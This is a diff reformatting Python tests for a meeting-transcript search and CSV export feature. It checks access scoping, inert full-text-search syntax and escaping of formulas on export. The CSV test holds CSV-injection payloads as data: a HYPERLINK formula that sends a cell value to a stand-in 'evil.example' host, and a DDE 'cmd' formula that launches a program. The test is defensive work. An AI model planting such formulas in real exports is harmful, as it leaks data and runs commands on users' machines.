@@ -31,8 +31,9 @@ def world(ctx, people, speech_mp4):
         m.start_meeting(people.op1, meeting.id)
         m.end_meeting(people.op1, meeting.id)
         recordings[meeting.title] = ctx.ingest.ingest_file(meeting.id, speech_mp4, source_recording_id="s")[0]
-    JobRunner([TranscriptionJobs(ctx.system_recordings, ctx.storage, lambda: Scripted(), ctx.index,
-                                 document=transcript_docx)]).run_until_idle()
+    JobRunner(
+        [TranscriptionJobs(ctx.system_recordings, ctx.storage, lambda: Scripted(), ctx.index, document=transcript_docx)]
+    ).run_until_idle()
     yield {"mine": mine, "other": other, "rec": recordings["Revue A"], "rec_b": recordings["Revue B"]}
     set_context(None)
 
@@ -119,7 +120,10 @@ def test_transcript_search_is_scoped_and_exports_csv(world, people):
 def test_search_service_export_content(ctx, world, people):
     hits = ctx.recordings.search_transcripts(people.op1, "bienvenue")
     assert {h.meeting_title for h in hits} == {"Revue A", "Revue B"}
-    assert ctx.recordings.search_transcripts(people.op1, "bienvenue", client_id=people.client_b.id)[0].meeting_title == "Revue B"
+    assert (
+        ctx.recordings.search_transcripts(people.op1, "bienvenue", client_id=people.client_b.id)[0].meeting_title
+        == "Revue B"
+    )
     assert ctx.recordings.search_transcripts(people.op2, "bienvenue") == []
     # FTS5 syntax in user input is inert: it is searched as words, never parsed as operators
     assert isinstance(ctx.recordings.search_transcripts(people.client_b, 'bienvenue OR "budget" NEAR( *'), list)
@@ -148,10 +152,13 @@ def test_csv_export_keeps_formulas_as_text(ctx, world, people):
     from visio_core.ui.transcripts_view import export_csv, results_table
 
     hit = ctx.recordings.search_transcripts(people.op1, "budget")[0]
-    hostile = [dataclasses.replace(hit, meeting_title='=HYPERLINK("https://evil.example/?"&A1;"clic")',
-                                   text="=cmd|' /C calc'!A0"),
-               dataclasses.replace(hit, meeting_title="+SUM(1;2)", text="@SUM(A1)"),
-               dataclasses.replace(hit, meeting_title="-2+3", text="\tTAB")]
+    hostile = [
+        dataclasses.replace(
+            hit, meeting_title='=HYPERLINK("https://evil.example/?"&A1;"clic")', text="=cmd|' /C calc'!A0"
+        ),
+        dataclasses.replace(hit, meeting_title="+SUM(1;2)", text="@SUM(A1)"),
+        dataclasses.replace(hit, meeting_title="-2+3", text="\tTAB"),
+    ]
     rows = list(csv.reader(io.StringIO(export_csv(results_table(hostile)).decode("utf-8-sig"))))[1:]
     assert [r[0] for r in rows] == ['\'=HYPERLINK("https://evil.example/?"&A1;"clic")', "'+SUM(1;2)", "'-2+3"]
     assert [r[5] for r in rows] == ["'=cmd|' /C calc'!A0", "'@SUM(A1)", "'\tTAB"]
